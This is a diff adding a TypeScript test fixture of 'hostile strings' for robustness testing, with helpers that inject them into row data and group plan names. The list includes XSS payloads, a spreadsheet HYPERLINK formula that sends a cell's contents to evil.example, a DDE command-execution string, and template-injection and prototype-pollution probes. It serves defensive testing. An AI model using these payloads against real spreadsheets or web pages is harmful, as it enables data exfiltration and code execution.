@@ -1,0 +1,40 @@
+import type { GroupPlan } from './groupPlans.ts';
+
+/** Strings that break careless programs: markup, formulas, writing directions, emoji, length, line ends, templates. */
+export const hostileStrings: readonly string[] = [
+  '<img src=x onerror="alert(1)">',
+  '</script><script>alert(1)</script>',
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '+1+cmd|\' /C calc\'!A0',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  'two\r\nlines',
+  '\u202Egnirts desrever',
+  'مركبات الشحن ١٢٣',
+  'רכבי משלוחים',
+  '👩‍👩‍👧‍👦🚚 family van',
+  'Zalgo ͧ̂t̆̏e͐x̓ť',
+  '"quoted", \'single\'; semi',
+  '{{7*7}} ${7*7} %7B%7D &amp;',
+  '__proto__',
+  `${'long '.repeat(2000)}end`,
+]; // prettier-ignore
+
+/** The hostile string of a row, which one row in twenty has. */
+export function hostileStringOf(row: number, salt: number): string | undefined {
+  if (row % 20 !== salt) return undefined;
+  return hostileStrings[Math.floor(row / 20) % hostileStrings.length];
+}
+
+/** One of each kind, short enough for the name of a group. */
+const hostileNames = [0, 2, 8, 9, 11, 15].map((index) => hostileStrings[index]);
+
+/** The plans with hostile descriptions, and from the seventh on with hostile names. */
+export function hostilePlans(plans: readonly GroupPlan[]): readonly GroupPlan[] {
+  return plans.map((plan, index) => ({
+    ...plan,
+    description: hostileStrings.at(-1 - (index % hostileStrings.length)) ?? plan.description,
+    name: hostileNames[index - 6] ?? plan.name,
+  }));
+}
